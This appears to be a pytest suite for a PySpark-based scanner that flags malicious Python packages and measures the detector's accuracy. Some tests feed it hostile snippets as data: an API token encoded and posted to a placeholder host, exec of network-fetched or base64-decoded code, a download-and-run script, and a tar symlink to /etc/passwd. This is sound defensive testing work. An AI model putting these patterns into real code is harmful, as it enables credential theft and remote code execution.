import ast
import gzip
import hashlib
import io
import json
import random
import tarfile
import zipfile

import pytest
from pyspark.sql import functions as F


def rows_of(spark, seed=1, n=300, system=0):
    r = random.Random(seed)
    out = []
    for i in range(n):
        g = r.randrange(60)
        y = int(g % 3 == 0)
        s = round(min(1.0, max(0.0, r.gauss(0.35 + 0.3 * y, 0.2))), 2)
        if system:
            s = round(min(1.0, max(0.0, s + random.Random(i * 7 + system).choice([-0.1, 0, 0.05]))), 2)
        out.append((f"s{i}", y, s, ("train", "validation", "test", "test")[g % 4], f"g{g}", f"p{g % 5}", [None, True, False][i % 3], None if i % 4 == 0 else float(i)))
    return spark.createDataFrame(out, "sample_id string, label int, score double, split string, group_id string, period string, model_invoked boolean, latency_ms double")


def brute_threshold(pairs, budget):
    import math

    scores = {s for _, s in pairs}
    p, n = sum(y for y, _ in pairs), sum(1 - y for y, _ in pairs)
    best = None
    for t in [math.nextafter(max(scores), math.inf), *scores]:
        tp, fp = sum(y for y, s in pairs if s >= t), sum(1 - y for y, s in pairs if s >= t)
        if fp / n <= budget:
            key = (tp / p if p else 0, tp / (tp + fp) if tp + fp else 0, -t)
            best = max(best, key) if best else key
    return -best[2]


def test_thresholds(spark):
    from brindle.operators import evaluation as E

    small = lambda ys, ss: spark.createDataFrame(list(zip(ys, ss)), "label int, score double")
    one = E.select_threshold(E.score_table(small([0, 0, 1, 1], [0.05, 0.20, 0.91, 0.65])), 0.001).first()
    assert (one.threshold, one.false_positive_rate, one.recall) == (0.65, 0.0, 1.0)
    one = E.select_threshold(E.score_table(small([0, 1, 0], [0.9, 0.8, 0.7])), 0.5).first()
    assert (one.threshold, one.recall, one.false_positive_rate) == (0.8, 1.0, 0.5)
    one = E.select_threshold(E.score_table(small([0, 1], [0.9, 0.8])), 0.0).first()
    assert one.threshold > 0.9 and one.recall == 0.0
    d = rows_of(spark)
    pairs = [(r.label, r.score) for r in d.collect()]
    for budget in (0.0, 0.05, 0.3):
        assert E.select_threshold(E.score_table(d), budget).first().threshold == brute_threshold(pairs, budget)


def test_scalars():
    from brindle.functions import statistics as S

    assert S.minimum_trials(0.001, 0.95) == 2995
    assert abs(1 - 0.025 ** (1 / 450) - S.clopper_pearson_upper(0, 450, 0.975)) < 1e-9
    assert abs(S.clopper_pearson_upper(0, 450, 0.975) - 0.00816) < 1e-4
    assert S.symmetry_p(0, 0) == 1.0 and S.symmetry_p(5, 0) == 2 / 32


def test_bootstrap_is_the_seeded_one(spark):
    from brindle.operators import evaluation as E

    d = rows_of(spark, 2, 120).filter("split = 'test'")
    lock = spark.createDataFrame([(0.5,)], "threshold double")
    got = {r.metric: (r.lower, r.upper) for r in E.group_bootstrap(d, lock, 20, 7).collect()}
    rows = d.collect()
    groups: dict = {}
    for r in rows:
        groups.setdefault(r.group_id, []).append(r)
    r, ids, recall = random.Random(7), sorted(groups), []
    for _ in range(20):
        sample = [x for g in r.choices(ids, k=len(ids)) for x in groups[g]]
        p = sum(x.label for x in sample)
        if 0 < p < len(sample):
            recall.append(sum(x.label for x in sample if x.score >= 0.5) / p)
    recall.sort()

    def q(f):
        k = (len(recall) - 1) * f
        lo = int(k)
        return recall[lo] + (recall[min(lo + 1, len(recall) - 1)] - recall[lo]) * (k - lo)

    assert abs(got["recall"][0] - q(0.025)) < 1e-9 and abs(got["recall"][1] - q(0.975)) < 1e-9


def test_alignment_raises(spark):
    from brindle.operators import comparison as C

    a = rows_of(spark, 1, 20)
    with pytest.raises(Exception, match="sample_id sets differ"):
        C.align(a, a.filter("sample_id <> 's3'")).collect()
    with pytest.raises(Exception, match="metadata differ"):
        C.align(a, a.withColumn("period", F.lit("x"))).collect()
    assert C.align(a, a).count() == 20


def test_duplicate_groups(spark):
    from brindle.operators import governance as G

    e = spark.createDataFrame([("a", "1"), ("b", "1"), ("b", "2"), ("c", "2"), ("d", "3"), ("e", None)] + [(f"z{i:03}", f"k{i}") for i in range(40)] + [(f"z{i:03}", f"k{i + 1}") for i in range(40)], "sample string, key string")
    got = {r["sample"]: r["group"] for r in G.duplicate_groups(e).collect()}
    assert got["a"] == got["b"] == got["c"] == "a" and got["d"] == "d" and {got[f"z{i:03}"] for i in range(40)} == {"z000"}


# --- scoring: a plain twin of the five strategies


def evidence_rows(seed):
    from brindle.functions import vocabulary as V

    r = random.Random(seed)
    events, paths = [], []
    for t in range(4):
        for f in range(2):
            path = r.choice(["pkg/a.py", "tests/b.py", "setup.py", "scripts/run.py"]) + str(f) * (f > 0)
            path = path if path.endswith(".py") else path + ".py"
            for i in range(r.randint(0, 14)):
                events.append((f"t{t}", path, i, r.choice([*V.WEIGHTS, "IMPORT"]), "x", i, r.choice(["f", "g"]), "runtime", "d"))
    for t, path in {(e[0], e[1]) for e in events}:
        mine = [e for e in events if e[:2] == (t, path)]
        for _ in range(r.randint(0, 5)):
            kind = r.choice(["dataflow", "summary", "proximity", "structural"])
            motif = r.choice(list(V.STRUCTURES if kind == "structural" else V.FLOWS))
            k = sorted(r.sample(range(len(mine)), min(len(mine), 1 if kind == "structural" else r.randint(1, 3))))
            paths.append((t, path, motif, float(r.choice([1, 2, 18, 36])), "r", k, kind, "low"))
    return events, paths


def twin(events, paths, strategy):
    from collections import defaultdict

    from brindle.functions import vocabulary as V

    def auxiliary(p):
        parts = p.lower().split("/")
        return any(x in V.AUXILIARY_PARTS for x in parts[:-1]) or parts[-1] == "conftest.py" or parts[-1].startswith("test_") or parts[-1].endswith("_test.py")

    def orchestration(p):
        parts = p.lower().split("/")
        return auxiliary(p) or any(x in V.ORCHESTRATION_PARTS for x in parts[:-1]) or parts[-1] in V.ORCHESTRATION_FILES

    out = {}
    for t in {e[0] for e in events}:
        by = {(e[1], e[2]): e for e in events if e[0] == t}
        rows = [("event", e[3], V.WEIGHTS[e[3]], (e[1], e[6]), k, set()) for k, e in by.items() if e[3] in V.WEIGHTS]
        for p in (p for p in paths if p[0] == t):
            first = by[(p[1], p[5][0])]
            rows.append((p[6], p[2], p[3], (p[1], first[6]), None, {(p[1], i) for i in p[5]}))
        under = set().union(*[r[5] for r in rows if r[0] == "summary"]) if rows else set()
        free = [r for r in rows if r[4] is None or r[4] not in under]
        top = lambda xs, k: sum(sorted(xs, reverse=True)[:k])
        best = lambda rs: {(r[0], r[1]): max(x[2] for x in rs if x[:2] == r[:2]) for r in rs}
        contexts = defaultdict(list)
        for r in rows:
            contexts[r[3]].append(r)
        if strategy == "semantic-top8-v1":
            score = top(best(free).values(), 8)
        elif strategy == "legacy-top8":
            score = top([r[2] for r in free], 8)
        elif strategy == "context-max-v1":
            score = max((top(best(rs).values(), 4) for rs in contexts.values()), default=0.0)
        else:
            score = 0.0
            for (path, _), rs in contexts.items():
                own = {r[4]: r[2] for r in rs if r[4] is not None}
                groups = {k: (s, set().union(*[r[5] for r in rs if r[:2] == k])) for k, s in best([r for r in rs if r[0] != "event"]).items()}
                strong = ("dataflow", "summary", "structural")
                covered, parts = set(), []
                for (kind, motif), (s, cover) in groups.items():
                    hit = max([own[c] for c in cover if c in own], default=0.0)
                    if strategy == "context-cover-v2":
                        if kind in strong:
                            covered |= cover
                            s = max(s, hit)
                        parts.append((s, kind, motif))
                        continue
                    covered |= cover
                    if kind == "proximity":
                        if not any((k, motif) in groups for k in ("dataflow", "summary")):
                            parts.append((s + hit, kind, motif))
                    elif kind == "structural" and motif == "destructive_file_action":
                        parts.append((hit or s, kind, motif))
                    else:
                        parts.append((max(s, hit), kind, motif))
                for (_, op), s in best([r for r in rs if r[0] == "event"]).items():
                    if any(r[4] not in covered for r in rs if r[:2] == ("event", op)):
                        parts.append((s, "event", op))
                if strategy == "context-cover-v2":
                    here = top([p[0] for p in parts], 4)
                elif auxiliary(path):
                    here = max([p[0] for p in parts], default=0.0)
                elif orchestration(path):
                    flow = any(k in ("dataflow", "summary") for _, k, _ in parts)
                    causes = [s for s, k, m in parts if k in ("dataflow", "summary") or k == "structural" and m in ("install_time_execution", "persistence_write")]
                    here = top(causes, 2) if flow else max([p[0] for p in parts], default=0.0)
                else:
                    only = [s for s, k, m in parts if k == "event" and m in V.CONTEXT_ONLY]
                    here = top([s for s, k, m in parts if not (k == "event" and m in V.CONTEXT_ONLY)] + ([max(only)] if only else []), 4)
                score = max(score, here)
        out[t] = min(100.0, score)
    return out


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_strategies_equal_their_twins(spark, seed):
    from brindle.operators import scoring as S

    events, paths = evidence_rows(seed)
    e = spark.createDataFrame(events, "target_id string, path string, event_index long, op string, target string, line int, function string, phase string, detail string")
    p = spark.createDataFrame(paths, "target_id string, path string, motif string, score double, reason string, event_indexes array<long>, evidence_kind string, confidence string")
    rows = S.evidence(e, p)
    have = {r.target_id for r in rows.select("target_id").distinct().collect()}
    for name in S.STRATEGIES:
        got = {r.target_id: r.score for r in S.rule_scores(rows, (name,)).collect()}
        want = {t: s for t, s in twin(events, paths, name).items() if t in have}
        assert got == pytest.approx(want), name


# --- frontend


def paths_of(source, **more):
    from brindle.sources.frontend import analyse

    r = analyse(source, "pkg/a.py", **more)
    assert r["parse_error"] is None
    ops = [e["op"] for e in r["events"]]
    return {(x["motif"], tuple(ops[i] for i in x["event_indexes"]), x["through_summary"]) for x in r["exact"]}


def test_value_paths():
    send = "import os, base64, requests\n"
    assert paths_of(send + "t = os.getenv('API_TOKEN')\nx = base64.b64encode(t)\nrequests.post('https://h.example.invalid', data=x)") == {("credential_or_file_exfil", ("ENV_READ", "ENCODE", "NETWORK_SEND"), False)}
    assert paths_of(send + "t = os.getenv('API_TOKEN')\nt = 'safe'\nrequests.post('u', data=t)") == set()  # reassigned
    assert paths_of(send + "t = os.getenv('API_TOKEN')\nif t:\n  t = 'a'\nrequests.post('u', data=t)") != set()  # one branch keeps it
    assert paths_of(send + "t = os.getenv('API_TOKEN')\nrequests.post(t)") == set()  # not a payload
    assert paths_of(send + "def f(v):\n  return v\nrequests.post('u', data=f(os.getenv('API_TOKEN')))") == {("credential_or_file_exfil", ("ENV_READ", "NETWORK_SEND"), True)}
    assert paths_of("import requests\nexec(requests.get('u').text)") == {("download_execute", ("NETWORK_RECEIVE", "DYNAMIC_EXEC"), False)}
    assert paths_of("import base64\nexec(base64.b64decode('eA=='))") == {("encoded_execution", ("DECODE", "DYNAMIC_EXEC"), False)}
    assert paths_of("import requests, subprocess\nfrom pathlib import Path\nPath('x.sh').write_bytes(requests.get('u').content)\nsubprocess.run(['sh', 'x.sh'])") == {("download_execute", ("NETWORK_RECEIVE", "PROCESS_EXEC"), False)}
    assert paths_of("import base64\ndef f(n):\n  return f(n)\nexec(f(base64.b64decode('eA==')))") != set()  # recursion ends
    assert paths_of("import base64\nexec(base64.b64decode('eA=='))", flow=False) == set()


def test_events_and_errors():
    from brindle.sources.frontend import analyse

    r = analyse("from subprocess import run as go\ngo(['bash', '-c', 'x'])\nimport os\nos.environ['HOME']\n", "setup.py")
    assert [(e["op"], e["target"], e["phase"]) for e in r["events"]] == [("IMPORT", "subprocess.run", "install"), ("PROCESS_EXEC", "bash", "install"), ("IMPORT", "os", "install"), ("ENV_READ", "HOME", "install")]
    assert analyse("def (", "a.py")["parse_error"] and not analyse("def (", "a.py")["events"]
    assert analyse("import os\n" + "os.getuid()\n" * 30, "a.py", most=10)["event_limit_reached"]
    shadow = analyse("import os\ndef f(os):\n  os.system('x')\n", "a.py")
    assert [e["op"] for e in shadow["events"]] == ["IMPORT"]
    assert analyse("", "a.py")["events"] == []


def test_scan_end_to_end(spark):
    from brindle.plans.scan import report, scan

    files = [("good", "m.py", b"def f(p):\n    with open(p) as h:\n        return h.read()\n"), ("bad", "m.py", b"import os, base64, requests\nt = os.getenv('API_TOKEN')\nrequests.post('u', data=base64.b64encode(t))\n"), ("bad", "broken.py", b"def ("), ("none", "e.py", b"")]
    parts = scan(spark.createDataFrame(files, "target_id string, path string, content binary"))
    got = {r.target_id: (r.verdict, r.risk_score) for r in parts["decisions"].collect()}
    assert got["good"] == ("low-signal", 0.0) and got["none"] == ("low-signal", 0.0) and got["bad"][0] == "suspicious" and got["bad"][1] == 36 + 15 + 7 + 4
    doc = {r.target_id: json.loads(r.report) for r in report(parts).collect()}
    assert doc["bad"]["parse_errors"] == 1 and doc["bad"]["evidence"][0]["name"] == "credential_or_file_exfil"


def test_policy_columns(spark):
    from brindle.functions import policy as P

    v = F.col("v")
    one = lambda f, xs: [r[0] for r in spark.createDataFrame([(x,) for x in xs], "v string").select(f(v)).collect()]
    assert one(P.process_target_class, ["/usr/bin/python3 -c x", "bash_script", "GCC", "make all", "pip install", "ls", None, ""]) == ["interpreter", "shell", "compiler", "build_tool", "package_tool", "generic", "generic", "generic"]
    assert one(P.delete_target_class, ["/", "src/*", "/tmp/x", "a.pyc", "~/Documents/x", "x", None]) == ["broad", "broad", "temporary", "temporary", "user_data", "generic", "generic"]
    assert one(P.is_persistence_path, ["/home/u/.bashrc", "lib\\X.PTH", "a.txt", None]) == [True, True, False, False]
    assert one(P.is_auxiliary_path, ["tests/a.py", "a/test_x.py", "test.py", "a/b.py"]) == [True, True, False, False]
    assert one(P.safe_member_name, ["a/b.py", "../b", "/a", "a\\b", "a//b", "C:x", "d/"]) == [True, False, False, False, False, False, True]
    assert one(P.verdict, ["75", "50", "25", "1"]) == ["high-risk", "suspicious", "review", "low-signal"]
    calls = {r.v: r.op for r in P.classify_calls(spark.createDataFrame([("subprocess.run",), ("subprocess.x",), ("p.read_text",), ("q.write_bytes",), ("eval",), ("none",)], "v string"), "v").collect()}
    assert calls == {"subprocess.run": "PROCESS_EXEC", "subprocess.x": "PROCESS_EXEC", "p.read_text": "FILE_READ", "q.write_bytes": "FILE_WRITE", "eval": "DYNAMIC_EXEC", "none": None}


def test_hashes(spark):
    from brindle.functions import tokens as T

    def framed(xs):
        h = hashlib.sha256()
        for x in xs:
            h.update(len(x).to_bytes(8, "big") + x)
        return h.hexdigest()

    rows = [(["a", "bc"],), (["ab", "c"],), (["é→", ""],), ([],)]
    got = [r[0] for r in spark.createDataFrame(rows, "t array<string>").select(T.sequence_hash(F.col("t"))).collect()]
    assert got == [framed([x.encode() for x in r[0]]) for r in rows] and got[0] != got[1]
    payloads = [b"x", b"", b"yy", b"x"]
    entries = sorted(len(p).to_bytes(8, "big") + hashlib.sha256(p).digest() for p in payloads)
    assert spark.createDataFrame([(payloads,)], "p array<binary>").select(T.multiset_hash(F.col("p"))).first()[0] == framed(entries)
    b = spark.createDataFrame([(["f"],)], "t array<string>").select(T.bucket(F.col("t"), 100, b"p")).first()[0][0]
    v = int.from_bytes(hashlib.blake2b(b"f", digest_size=8, person=b"p").digest(), "little")
    assert (b["index"], b["sign"]) == (v % 100, -1.0 if v >> 63 else 1.0)
    grams = spark.createDataFrame([(["x", "y"],), ([],)], "t array<string>").select(T.ngrams(F.col("t"))).collect()
    assert grams[0][0][:4] == ["BOS", "x", "y", "EOS"] and grams[0][0][-1] == "x→y→EOS" and grams[1][0] == ["BOS", "EOS", "BOS→EOS"]


def test_normal_form_levels_names():
    from brindle.sources.syntax import normal_form

    assert normal_form(b"def f(a):\n  return a + 1") == normal_form(b"def g(b):\n  return b + 2") != normal_form(b"def g(b):\n  return b - 2")
    assert normal_form(b"def (") == b"raw:def ("
    assert ast.parse("1")


def test_archives():
    from brindle.sources.archives import Limits, Unsafe, members

    def zipped(files):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
            for n, d in files:
                z.writestr(n, d)
        return b.getvalue()

    assert members("a.whl", zipped([("p/b.py", b"2"), ("p/a.py", b"1"), ("x.txt", b"")])) == [("p/a.py", b"1", False), ("p/b.py", b"2", False)]
    for bad in ([("../a.py", b"")], [("A.py", b""), ("a.py", b"")], [("a.py", b"0" * 500_000)]):
        with pytest.raises(Unsafe):
            members("a.zip", zipped(bad))
    assert members("a.zip", zipped([("a.py", b"12345")]), Limits(member_bytes=3)) == [("a.py", b"123", True)]
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w") as t:
        i = tarfile.TarInfo("p/a.py")
        i.size = 2
        t.addfile(i, io.BytesIO(b"ok"))
    assert members("a.tar.gz", gzip.compress(b.getvalue())) == [("p/a.py", b"ok", False)]
    with tarfile.open(fileobj=(c := io.BytesIO()), mode="w") as t:
        i = tarfile.TarInfo("l.py")
        i.type, i.linkname = tarfile.SYMTYPE, "/etc/passwd"
        t.addfile(i)
    with pytest.raises(Unsafe):
        members("a.tgz", gzip.compress(c.getvalue()))
    with pytest.raises(Unsafe):
        members("a.zip", b"not a zip")


def test_readers(spark, tmp_path):
    from brindle.sources import readers as R

    good = {"sample_id": "a", "label": 1, "score": 0.5, "split": "test", "group_id": "g"}
    (tmp_path / "p.jsonl").write_text("\n".join(json.dumps(x) for x in (good, good | {"sample_id": "b", "label": "benign"})))
    assert sorted((r.sample_id, r.label) for r in R.predictions(spark, str(tmp_path / "p.jsonl")).collect()) == [("a", 1), ("b", 0)]
    bad = [good | {"label": True}, good | {"sample_id": "u", "x": 1}, good | {"sample_id": "v", "score": 2}, {k: v for k, v in good.items() if k != "group_id"} | {"sample_id": "w"}, good | {"sample_id": "r"}, good | {"sample_id": "r"}]
    (tmp_path / "b.jsonl").write_text("\n".join(json.dumps(x) for x in bad) + '\n{"sample_id": "n", "label": 1, "score": NaN, "split": "test", "group_id": "g"}\nnot json')
    found = [r.problem for r in R.prediction_problems(spark.read.text(str(tmp_path / "b.jsonl"))).collect()]
    assert all(found) and len(found) == 8
    with pytest.raises(Exception):
        R.predictions(spark, str(tmp_path / "b.jsonl")).collect()
    (tmp_path / "src/.venv").mkdir(parents=True)
    for n in ("b.py", "a.py", ".venv/c.py", "d.txt"):
        (tmp_path / "src" / n).write_text("x = 1\n")
    got = R.source_files(spark, str(tmp_path / "src")).orderBy("path").collect()
    assert [r.path for r in got] == ["a.py", "b.py"]


def test_stream_equals_batch(spark, tmp_path):
    from brindle.operators.patterns import proximity_paths
    from brindle.streaming.proximity import proximity_stream

    r = random.Random(4)
    rows = [("t", "p.py", f"f{i % 3}", i, r.choice(["ENV_READ", "FILE_READ", "DECODE", "NETWORK_SEND", "DYNAMIC_EXEC", "NETWORK_RECEIVE"]), r.choice(["API_TOKEN", "HOME"]), "runtime", "d", f"2024-01-01 00:{i // 60:02}:{i % 60:02}") for i in range(200)]
    schema = "target_id string, path string, function string, event_index long, op string, target string, phase string, detail string, ts string"
    e = spark.createDataFrame(rows, schema).withColumn("ts", F.to_timestamp("ts"))
    e.repartition(1).write.parquet(str(tmp_path / "in"))
    s = proximity_stream(spark.readStream.schema(e.schema).parquet(str(tmp_path / "in")))
    q = s.writeStream.format("memory").queryName("paths").outputMode("append").option("checkpointLocation", str(tmp_path / "cp")).trigger(availableNow=True).start()
    q.awaitTermination(120)
    got = {(x.motif, x.source, x.sink) for x in spark.sql("select * from paths").collect()}
    assert got == {(x.motif, x.event_indexes[0], x.event_indexes[1]) for x in proximity_paths(e).collect()} and got


def test_groups_are_drawn_by_one_rule_at_every_size(spark, monkeypatch):
    from collections import Counter

    from brindle.operators import evaluation as E

    monkeypatch.setattr(E, "GROUPS_ON_DRIVER", 10, raising=False)  # no size may change the rule
    monkeypatch.setattr(E, "DRAWN_AT_ONCE", 7, raising=False)
    ids = [f"g{i}" for i in range(95)] + ["é", "Z"]
    rows = spark.createDataFrame([(g, i % 2, float(i)) for i, g in enumerate(ids)], "group_id string, label int, score double")
    got = {(x.replicate, x.score): x.w for x in E.resampled(rows.repartition(3), 5, 11).collect()}
    r, want = random.Random(11), {}
    for k in range(5):
        want |= {(k, float(ids.index(g))): n for g, n in Counter(r.choices(sorted(ids), k=len(ids))).items()}
    assert got == want
    assert E.resampled(rows.filter("group_id = 'Z'"), 5, 11).count() == 0


def test_queries_draw_as_many_replicates_as_the_reference(monkeypatch):
    import inspect
    from unittest.mock import MagicMock

    from brindle.plans import evaluation_queries as Q

    seen = {}

    def heard(name):
        def call(*args):
            seen[name] = args[-1]
            return MagicMock()

        return call

    for name in ("_lock", "_pairs", "_both_locks", "_rounded"):
        monkeypatch.setattr(Q, name, lambda *args: MagicMock())
    monkeypatch.setattr(Q.V, "predictions", lambda *args: MagicMock())
    bootstrap_default = inspect.signature(Q.E.report).parameters["bootstrap"].default
    monkeypatch.setattr(Q.E, "group_bootstrap", heard("a14"))
    monkeypatch.setattr(Q.C, "paired_bootstrap", heard("a20"))
    monkeypatch.setattr(Q.C, "compare", heard("a21"))
    for query in (Q.a14_group_bootstrap, Q.a20_paired_bootstrap, Q.a21_claim_gate):
        query(None, "")
    assert seen == {"a14": 2000, "a20": 2000, "a21": 2000} and bootstrap_default == 2000


def most_rows(frame):
    """The most rows that a step of a frame's plan gave out when it was collected."""
    todo, most = [frame._jdf.queryExecution().executedPlan()], 0
    while todo:
        node = todo.pop()
        kind = node.getClass().getSimpleName()
        todo += [node.executedPlan()] if kind == "AdaptiveSparkPlanExec" else [node.plan()] if kind.endswith("QueryStageExec") else []
        todo += [node.children().apply(i) for i in range(node.children().size())]
        if node.metrics().contains("numOutputRows"):
            most = max(most, node.metrics().apply("numOutputRows").value())
    return most


def test_replicates_are_summed_where_groups_are(spark, monkeypatch):
    """No row is made for a replicate's group, and blocks and held sums of any size give the same sums."""
    from brindle.operators import evaluation as E

    ids = [f"g{i}" for i in range(500)]
    rows = spark.createDataFrame([(g, i % 2, i % 3 / 4, k % 2 / 2) for i, g in enumerate(ids) for k in range(1 + i % 4)] + [(None, 1, 0.5, 0.5), ("g7", None, None, 0.5)], "group_id string, label int, b_score double, c_score double")
    weights, r = [], random.Random(3)
    for _ in range(300):
        weights.append({})
        for g in r.choices(sorted(ids), k=len(ids)):
            weights[-1][g] = weights[-1].get(g, 0) + 1
    want: dict = {}
    for x in rows.filter("group_id is not null").collect():
        for k, w in enumerate(weights):
            if x.group_id in w:
                key = (k, x.label, x.b_score, x.c_score)
                want[key] = want.get(key, 0) + w[x.group_id]
    columns = ("label", "b_score", "c_score")
    for block, sums in ((1 << 12, 1 << 22), (64, 100)):
        monkeypatch.setattr(E, "GROUPS_A_BLOCK", block, raising=False)
        monkeypatch.setattr(E, "SUMS_AT_ONCE", sums, raising=False)
        sums_of = E.resampled(rows, 300, 3, columns)
        got = {tuple(x)[:-1]: x.w for x in sums_of.collect()}
        assert got == want
        if block > 64:
            assert 500 < most_rows(sums_of) < 60_000  # 95,000 groups are drawn


def test_no_group_is_as_near_as_groups_over_twice_the_target(spark, tmp_path):
    """A label whose groups are all larger than twice the target has no chosen rows, which are 0 rows, as in SQL."""
    import duckdb
    from oracle import compare

    from brindle.plans import evaluation_queries as Q

    spark.range(41 * 450).select(F.col("id").alias("doc_id"), F.concat(F.lit("t"), F.col("id").cast("string")).alias("text"), F.lit("en").alias("lang"), F.lit("s").alias("source")).write.parquet(f"{tmp_path}/documents.parquet")
    spark.range(41 * 450).filter("id % 41 < 2 or id % 3 = 0").select(F.col("id").alias("doc_id"), F.when(F.col("id") % 41 < 2, 1).otherwise(0).alias("quality")).write.parquet(f"{tmp_path}/labels.parquet")
    c = duckdb.connect()
    for t in ("documents", "labels"):
        c.sql(f"CREATE VIEW {t} AS SELECT * FROM '{tmp_path}/{t}.parquet/*.parquet'")
    assert compare(Q.g3_closest_subset(spark, str(tmp_path)), Q.SQL["g3_closest_subset"], c) is None


def test_claims_are_read_from_stored_intervals(spark):
    """The driver holds no plan that resamples, ranks and judges at once."""
    from brindle.operators import comparison as C

    parts = C.compare(rows_of(spark, 3, 300), rows_of(spark, 3, 300, system=1), 0.2, 10)
    assert "Window" not in parts["claim"]._jdf.queryExecution().toString()
    assert parts["claim"].count() == 1 and parts["intervals"].count() == 5


def test_report_parts_are_planned_one_at_a_time(spark):
    """The report's row is put together from stored parts, not by one plan of them all."""
    from brindle.operators import evaluation as E

    r = E.report(rows_of(spark, 4, 300), 0.2, bootstrap=10)
    plan = r._jdf.queryExecution().toString()
    assert "Window" not in plan and "MapInArrow" not in plan
    assert [x.metric for x in r.first().bootstrap] == ["aurc", "average_precision", "false_positive_rate", "recall"]
